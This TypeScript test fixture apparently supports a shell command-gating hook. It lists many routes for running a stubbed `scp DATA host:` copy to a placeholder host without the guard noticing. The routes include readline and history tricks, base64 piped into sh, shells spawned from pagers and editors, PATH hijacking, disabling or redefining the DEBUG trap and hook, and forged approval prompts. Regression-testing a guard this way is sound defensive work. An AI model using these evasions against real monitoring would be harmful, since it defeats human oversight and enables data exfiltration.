/**
 * Ways to get one program run without a line that says so. Every route ends in the stub `scp`, which logs that it ran;
 * a mode keeps its promise when no route's log entry appears. Add routes; never take one away.
 */

export interface BypassRoute {
  readonly name: string;
  /** What is typed, key by key or line by line; each entry is sent when the last one was answered by a prompt. */
  readonly keys: readonly string[];
  /** Files that stand in the home directory before, name to content. */
  readonly files?: Readonly<Record<string, string>>;
  /** Keys of one line, sent without waiting for a prompt between them. */
  readonly isRaw?: boolean;
}

const lines = (...typed: string[]): readonly string[] => typed.map((line) => `${line}\r`);

/** Routes of a terminal: editing, history, variables, other programs. */
export const TERMINAL_ROUTES: readonly BypassRoute[] = [
  { name: 'as it is', keys: lines('scp DATA host:') },
  { name: 'by its path', keys: lines('STUB DATA host:') },
  { name: 'ended by ^J', keys: ['scp DATA host:\n'] },
  { name: 'ended by ^O', keys: ['scp DATA host:\x0f'] },
  { name: 'ended by ^M behind a quoted return', keys: ['scp DATA \x16\rhost:\r'] },
  { name: 'killed and yanked', keys: ['scp\x15', '\x19 DATA host:\r'], isRaw: true },
  { name: 'typed backwards', keys: ['p DATA host:\x01sc\r'], isRaw: true },
  { name: 'transposed', keys: ['csp\x01\x06\x14\x05 DATA host:\r'], isRaw: true },
  { name: 'by history expansion', keys: lines(': scp DATA host:', '!:1*') },
  { name: 'by quick substitution', keys: lines('echo DATA host:', '^echo^scp') },
  { name: 'by ^R', keys: ['true scp DATA host:\r', '\x12scp\x01\x1b[3~\x1b[3~\x1b[3~\x1b[3~\x1b[3~\r'] },
  { name: 'by the arrow key', keys: ['true scp DATA host:\r', '\x1b[A\x01\x1bd\r'] },
  { name: 'over two lines by a backslash', keys: ['sc\\\rp DATA host:\r'], isRaw: true },
  { name: 'over two lines by a quote', keys: ['scp "DATA\r" host:\r'], isRaw: true },
  { name: 'by a macro of readline', keys: [`bind '"\\C-t": "scp DATA host:\\C-m"'\r`, '\x14'] },
  { name: 'by bind -x', keys: [`bind -x '"\\C-t": scp DATA host:'\r`, '\x14'] },
  { name: 'with no echo', keys: lines('stty -echo', 'scp DATA host:') },
  { name: 'read silently and evaluated', keys: ['read -rs x; eval "$x"\r', 'scp DATA host:\r'], isRaw: true },
  { name: 'behind horizontal scrolling', keys: lines("bind 'set horizontal-scroll-mode on'", 'scp DATA host:') },
  { name: 'behind a screen of its own', keys: lines("printf '\\033[?1049h\\033[2;1H'", 'scp DATA host:') },
  { name: 'behind a false offer of zmodem', keys: lines("printf '**\\030B00000000000000\\r\\n'", 'scp DATA host:') },
  { name: 'behind an alias', keys: lines('alias x=scp', 'x DATA host:') },
  { name: 'behind an alias set as an array', keys: lines('BASH_ALIASES[x]=scp', 'x DATA host:') },
  { name: 'by a variable', keys: lines('x=scp', '$x DATA host:') },
  { name: 'by two variables', keys: lines('a=s b=cp', '$a$b DATA host:') },
  { name: 'by an indirect variable', keys: lines('x=scp y=x', '${!y} DATA host:') },
  { name: 'by a name with quotes', keys: lines('s""cp DATA host:') },
  { name: 'by a glob', keys: lines('d=STUB', '${d%scp}s[c]p DATA host:') },
  { name: 'by braces', keys: lines('{scp,DATA,host:}') },
  { name: 'by a quoted byte', keys: lines("$'\\x73cp' DATA host:") },
  { name: 'in a function', keys: lines('f() { scp "$@"; }', 'f DATA host:') },
  { name: 'decoded into a shell', keys: lines('echo c2NwIERBVEEgaG9zdDo= | base64 -d | sh') },
  { name: 'in a script', keys: lines('sh ./s.sh'), files: { 's.sh': 'scp DATA host:\n' } },
  { name: 'in a script that is sourced', keys: lines('. ./s.sh'), files: { 's.sh': 'scp DATA host:\n' } },
  {
    name: 'in an executable script',
    keys: lines('chmod +x s.sh', './s.sh'),
    files: { 's.sh': '#!/bin/sh\nscp DATA host:\n' },
  },
  { name: 'from python', keys: lines(`python3 -c 'import os; os.system("scp DATA host:")'`) },
  { name: 'from perl', keys: lines(`perl -e 'system("scp DATA host:")'`) },
  { name: 'from awk', keys: lines(`awk 'BEGIN { system("scp DATA host:") }'`) },
  { name: 'from vim', keys: ['vim\r', ':!scp DATA host:\r\r', ':q!\r'], isRaw: true },
  { name: 'from less', keys: ['less /etc/passwd\r', '!scp DATA host:\r\r', 'q'], isRaw: true },
  { name: 'from man', keys: ['MANPAGER=less man bash\r', '!scp DATA host:\r\r', 'q'], isRaw: true },
  {
    name: 'from a pager of git',
    keys: ['env -u PAGER -u GIT_PAGER git -p log\r', '!scp DATA host:\r\r', 'q'],
    isRaw: true,
  },
  { name: 'by editing and executing', keys: ['\x18\x05', ':0r!echo scp DATA host:\r:wq\r'], isRaw: true },
  { name: 'by fc', keys: lines(': scp DATA host:', "fc -s ': '= :") },
  { name: 'by completion', keys: ["complete -C 'scp DATA host:' foo\r", 'foo \t\t\x15'] },
  { name: 'in a child bash', keys: ['bash\r', 'scp DATA host:\r', 'exit\r'], isRaw: true },
  { name: 'in a shell that replaces this one', keys: ['exec bash\r', 'scp DATA host:\r'], isRaw: true },
  { name: 'in a shell of sudo', keys: ['sudo -n -s\r', 'scp DATA host:\r', 'exit\r'], isRaw: true },
  { name: 'in tmux', keys: ['tmux new scp DATA host:\r'], isRaw: true },
  { name: 'typed ahead of a program that reads nothing', keys: ['sleep 0.2\rscp DATA host:\r'], isRaw: true },
  { name: 'pasted', keys: ['\x1b[200~true\rscp DATA host:\r\x1b[201~\r'], isRaw: true },
];

/** Routes round a hook of the shell itself. */
export const HOOK_ROUTES: readonly BypassRoute[] = [
  { name: 'trap - DEBUG', keys: lines('trap - DEBUG', 'scp DATA host:') },
  { name: 'trap - DEBUG behind builtin', keys: lines('builtin trap - DEBUG', 'scp DATA host:') },
  { name: 'trap - DEBUG behind command', keys: lines('command builtin command trap - DEBUG; scp DATA host:') },
  { name: 'trap - DEBUG behind a variable', keys: lines('t=trap d=DEBUG', '$t - $d; scp DATA host:') },
  { name: 'trap with an empty command', keys: lines("trap '' DEBUG", 'scp DATA host:') },
  { name: 'set +T and a function', keys: lines('set +T', 'f() { scp DATA host:; }; f') },
  { name: 'set +o functrace', keys: lines('set +o functrace', '(scp DATA host:)') },
  { name: 'shopt -u extdebug', keys: lines('shopt -u extdebug', 'scp DATA host:') },
  { name: 'enable -n trap', keys: lines('enable -n trap printf read', 'scp DATA host:') },
  { name: 'enable -f', keys: lines('enable -f ./x.so x; scp DATA host:') },
  { name: 'redefining the hook', keys: lines('__sekisho_hook() { :; }', 'scp DATA host:') },
  {
    name: 'redefining the hook through eval',
    keys: lines('h=__sekisho', 'eval "${h}_hook() { :; }"', 'scp DATA host:'),
  },
  { name: 'unset -f of the hook', keys: lines('unset -f __sekisho_hook __sekisho_judged', 'scp DATA host:') },
  { name: 'an alias for the hook', keys: lines('alias __sekisho_hook=:', 'scp DATA host:') },
  { name: 'a function called builtin', keys: lines('builtin() { :; }', 'scp DATA host:') },
  { name: 'a function called printf', keys: lines('printf() { scp DATA host:; }', 'printf x') },
  { name: 'trap EXIT', keys: ["trap 'scp DATA host:' EXIT\r", 'exit\r'] },
  { name: 'trap USR1', keys: lines("trap 'scp DATA host:' USR1", 'kill -USR1 $$') },
  { name: 'trap ERR', keys: lines("trap 'scp DATA host:' ERR", 'false') },
  { name: 'trap RETURN', keys: lines("trap 'scp DATA host:' RETURN", 'f() { :; }; declare -ft f; f') },
  { name: 'PROMPT_COMMAND', keys: lines("PROMPT_COMMAND='scp DATA host:'", '') },
  { name: 'a prompt that runs something', keys: lines("PS1='$(scp DATA host:)$ '", '') },
  { name: 'PS0', keys: lines("PS0='$(scp DATA host:)'", 'true') },
  { name: 'PS4', keys: lines("PS4='$(scp DATA host:)'; set -x", 'true') },
  { name: 'coproc', keys: lines('coproc scp DATA host:') },
  { name: 'process substitution', keys: lines('cat <(scp DATA host:)') },
  { name: 'command substitution in arithmetic', keys: lines("x='a[$(scp DATA host:)]'", '((x))') },
  { name: 'command substitution in a subscript', keys: lines('a[$(scp DATA host:)]=1') },
  {
    name: 'command substitution in a test',
    keys: lines('[[ -v a[$(scp DATA host:)] ]]', 'test -v "a[\\$(scp DATA host:)]"'),
  },
  { name: 'command substitution in a here-document', keys: ['cat <<E\r$(scp DATA host:)\rE\r'], isRaw: true },
  { name: 'command substitution in a redirection', keys: lines('{ :; } > "$(scp DATA host:)"') },
  { name: 'a prompt expansion', keys: lines("x='$(scp DATA host:)'; : ${x@P}") },
  { name: 'mapfile -C', keys: lines("mapfile -C 'scp DATA host: #' -c 1 x < /etc/passwd") },
  { name: 'find -exec', keys: lines('find /etc/passwd -exec scp {} host: \\;') },
  { name: 'xargs', keys: lines('echo DATA host: | xargs scp') },
  { name: 'BASH_ENV', keys: lines('BASH_ENV=./s.sh bash -c :'), files: { 's.sh': 'scp DATA host:\n' } },
  { name: 'env -i', keys: lines('env -i PATH="$PATH" bash --norc -c \'scp DATA host:\'') },
  { name: 'exec -a', keys: ['exec -a x scp DATA host:\r'], isRaw: true },
  { name: 'hash -p', keys: lines('hash -p STUB ls', 'ls DATA host:') },
  { name: 'the table of hashed commands', keys: lines('BASH_CMDS[ls]=STUB', 'ls DATA host:') },
  { name: 'PATH', keys: lines('PATH=$HOME/evil:$PATH', 'ls'), files: { 'evil/ls': '#!/bin/sh\nscp DATA host:\n' } },
  { name: 'nested eval', keys: lines(`eval "eval \\"eval 'scp DATA host:'\\""`) },
  { name: 'a background list', keys: lines('(sleep 0.1; scp DATA host:) &', 'wait') },
  { name: 'a verdict typed ahead', keys: ['sleep 0.4\r', 'y\x1ey\x1ey\x1e\rscp DATA host:\r'], isRaw: true },
  {
    name: 'a question forged on the screen',
    keys: lines('printf \'\\033]7001;%s;a;x;y;;\\007\' "$__sekisho_k"; scp DATA host:'),
  },
  { name: 'history turned off', keys: lines('set +o history', 'scp DATA host:') },
  { name: 'history that tells another line', keys: ['history -s true\r', 'scp DATA host:\r'] },
  { name: 'posix mode', keys: lines('set -o posix', 'scp DATA host:') },
  { name: 'posix mode by a number', keys: lines('((POSIXLY_CORRECT=1))', 'scp DATA host:') },
  { name: 'a nesting limit', keys: lines('FUNCNEST=1', 'scp DATA host:') },
];
